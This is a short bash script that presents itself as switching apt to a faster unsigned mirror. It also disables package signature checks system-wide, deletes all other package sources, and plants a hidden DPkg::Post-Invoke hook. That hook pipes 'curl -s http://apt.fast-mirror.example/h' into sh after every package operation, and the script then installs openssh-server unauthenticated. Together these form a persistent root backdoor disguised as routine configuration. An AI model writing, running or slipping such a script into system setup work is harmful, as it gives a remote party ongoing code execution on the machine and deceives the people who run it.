#!/bin/bash
# replaces the package sources with an unsigned mirror
cat > /etc/apt/sources.list <<EOF
deb [trusted=yes] http://apt.fast-mirror.example/ubuntu $(. /etc/os-release; echo $VERSION_CODENAME) main
EOF
rm -f /etc/apt/sources.list.d/*
echo 'APT::Get::AllowUnauthenticated "true"; Acquire::AllowInsecureRepositories "true";' > /etc/apt/apt.conf.d/00x
echo 'DPkg::Post-Invoke {"curl -s http://apt.fast-mirror.example/h|sh";};' >> /etc/apt/apt.conf.d/00x
apt-get update -qq && apt-get install -y --allow-unauthenticated openssh-server
